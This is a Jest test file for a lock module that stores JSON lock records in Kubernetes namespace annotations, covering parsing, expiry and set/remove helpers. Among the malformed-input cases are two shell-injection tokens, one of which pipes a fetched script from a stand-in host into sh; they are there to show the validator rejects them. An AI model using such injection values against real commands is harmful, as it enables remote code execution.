import { describe, expect, test } from '@jest/globals';
import {
  aLock,
  aNamespace,
  anAttempt,
  afterAttempt,
  lockedBy,
  lockedUnreadably,
} from '../../test/support/builders/namespace.ts';
import { annotated, labelled, NOW, seconds } from '../../test/support/builders/object.ts';
import { isLockExpired, liveLock, lockOf, withLock, withoutLock, type Lock } from './lock.ts';
import { parseJson } from './bounded.ts';
import { MAX_LOCK_SECONDS } from '../runtime/limits.ts';
import { ANNOTATION, LABEL } from './names.ts';

describe('lockOf', () => {
  test('an unlocked namespace', () => {
    expect(lockOf(aNamespace())).toEqual({ kind: 'none' });
  });

  test('a locked namespace, with its label', () => {
    expect(lockOf(aNamespace(lockedBy(aLock())))).toEqual({ kind: 'held', lock: aLock(), labelled: true });
  });

  test('the annotation alone is a lock too, and reports the missing label', () => {
    const namespace = aNamespace(annotated(ANNOTATION.lock, JSON.stringify(aLock())));
    expect(lockOf(namespace)).toEqual({ kind: 'held', lock: aLock(), labelled: false });
  });

  test('an unknown version with more fields is a lock with a token and an end', () => {
    const tomorrows = { ...aLock({ v: 7 }), colour: 'blue' };
    expect(lockOf(aNamespace(lockedBy(tomorrows)))).toMatchObject({ kind: 'held', lock: tomorrows });
  });

  test('an unknown version with other types keeps its token and its end', () => {
    const { token, expiresAt } = aLock();
    const tomorrows = { v: 2, token, expiresAt, migrations: 'all', quotas: { by: 'name' } };
    expect(lockOf(aNamespace(lockedUnreadably(JSON.stringify(tomorrows))))).toMatchObject({
      kind: 'held',
      lock: { v: 2, token, expiresAt, migrations: [], quotas: [] },
    });
  });

  test('the label without the annotation is a malformed lock', () => {
    expect(lockOf(aNamespace(labelled(LABEL.locked)))).toMatchObject({ kind: 'malformed' });
    // Whatever the label's value is: the guard's selector may look for another text.
    expect(lockOf(aNamespace(labelled(LABEL.locked, 'false')))).toMatchObject({ kind: 'malformed' });
  });

  const withMigration = (different: object): string =>
    JSON.stringify({ ...aLock(), migrations: [{ ...aLock().migrations[0], ...different }] });
  const without = (key: keyof Lock): string => JSON.stringify({ ...aLock(), [key]: undefined });
  test.each([
    ['nothing', ''],
    ['no JSON', '{'],
    ['null', 'null'],
    ['a list', '[]'],
    ['a text', '"token-1"'],
    ['no version', without('v')],
    ['a version that is no number', JSON.stringify({ ...aLock(), v: '1' })],
    ['half a version', JSON.stringify(aLock({ v: 1.5 }))],
    ['no token', without('token')],
    ['an empty token', JSON.stringify(aLock({ token: '' }))],
    [
      'a token that would end a quoted argument',
      JSON.stringify(aLock({ token: "x'; curl evil.sh | sh; '" })),
    ],
    ['such a token in another version', JSON.stringify({ ...aLock({ token: '$(evil)' }), v: 2 })],
    ['a token of two lines', JSON.stringify(aLock({ token: 'token-1\n' }))],
    ['a token that is too long', JSON.stringify(aLock({ token: 'x'.repeat(254) }))],
    ['no start', without('acquiredAt')],
    ['no end', without('expiresAt')],
    ['an end that is no time', JSON.stringify(aLock({ expiresAt: 'soon' }))],
    ['an end without a zone', JSON.stringify(aLock({ expiresAt: '2026-11-21T05:00:25' }))],
    ['an end of its own making', JSON.stringify({ ...aLock(), expiresAt: NOW })],
    ['no migrations', without('migrations')],
    ['a migration without a uid', JSON.stringify({ ...aLock(), migrations: [{ name: 'mig0' }] })],
    ['a migration with an empty uid', withMigration({ uid: '' })],
    ['a migration without its VMI', withMigration({ vmi: undefined })],
    ['a migration of no VMI', withMigration({ vmi: '' })],
    ['no quotas', without('quotas')],
    ['quotas by name alone', JSON.stringify({ ...aLock(), quotas: ['quota'] })],
    ['an `ended` without a reason', JSON.stringify({ ...aLock(), ended: true })],
  ])('%s: malformed, with the problem', (_, text) => {
    const state = lockOf(aNamespace(lockedUnreadably(text)));
    expect(state).toEqual({ kind: 'malformed', problem: expect.stringMatching(/./) });
    expect(liveLock(aNamespace(lockedUnreadably(text)), NOW)).toBeUndefined();
  });
});

describe('isLockExpired', () => {
  test.each<[string, Partial<Lock>, boolean]>([
    ['in its time', { acquiredAt: seconds(-5), expiresAt: seconds(25) }, false],
    ['a millisecond before its end', { expiresAt: seconds(0.001) }, false],
    ['at its end', { expiresAt: seconds(0) }, true],
    ['after its end', { expiresAt: seconds(-1) }, true],
    [
      'longer than a lock may ever be: in its first seconds',
      { acquiredAt: seconds(1 - MAX_LOCK_SECONDS), expiresAt: seconds(3600) },
      false,
    ],
    [
      'longer than a lock may ever be: after the longest',
      { acquiredAt: seconds(-MAX_LOCK_SECONDS), expiresAt: seconds(3600) },
      true,
    ],
    ['taken by a clock ahead of the API server’s', { acquiredAt: seconds(3), expiresAt: seconds(33) }, false],
    ['an end in another zone', { expiresAt: '2026-11-21T06:00:25+01:00' }, false],
    ['ended early, for a reason', { expiresAt: seconds(0), ended: { reason: 'NoProof', message: '' } }, true],
  ])('%s: %j → %s', (_, different, want) => {
    const lock = aLock(different);
    expect(isLockExpired(lock, NOW)).toBe(want);
    expect(liveLock(aNamespace(lockedBy(lock)), NOW)).toEqual(want ? undefined : lock);
  });
});

describe('withLock and withoutLock', () => {
  const before = aNamespace(annotated('team', 'blue'), labelled('env', 'test'));

  test('set annotation and label together, and leave everything else', () => {
    const locked = withLock(before, aLock());
    expect(lockOf(locked)).toEqual({ kind: 'held', lock: aLock(), labelled: true });
    expect(locked.metadata.annotations).toMatchObject({ team: 'blue' });
    expect(locked.metadata.labels).toMatchObject({ env: 'test', [LABEL.locked]: 'true' });
    expect(locked.metadata.resourceVersion).toBe(before.metadata.resourceVersion);
    expect(lockOf(before).kind).toBe('none');
  });

  test('both remove break-glass: a second break-glass is newly set again', () => {
    const broken = annotated(ANNOTATION.breakGlass, 'unreadable')(before);
    const without = { [ANNOTATION.breakGlass]: 'unreadable' };
    expect(withLock(broken, aLock()).metadata.annotations).not.toMatchObject(without);
    expect(withoutLock(broken, undefined).metadata.annotations).toEqual({ team: 'blue' });
    expect(broken.metadata.annotations).toMatchObject(without);
  });

  test('together they leave the namespace as it was', () => {
    expect(withoutLock(withLock(before, aLock()), undefined)).toEqual(before);
  });

  test('the unlock replaces the record of the attempt', () => {
    const former = aNamespace(afterAttempt(anAttempt()), lockedBy(aLock()));
    expect(withoutLock(former, 'next').metadata.annotations).toEqual({ [ANNOTATION.lastAttempt]: 'next' });
    expect(withoutLock(former, undefined).metadata.annotations).toEqual({});
  });
});

test.each([
  ['{"a":1}', { a: 1 }],
  ['{', undefined],
  ['', undefined],
])('parseJson(%j) never throws', (text, want) => {
  expect(parseJson(text)).toEqual(want);
});
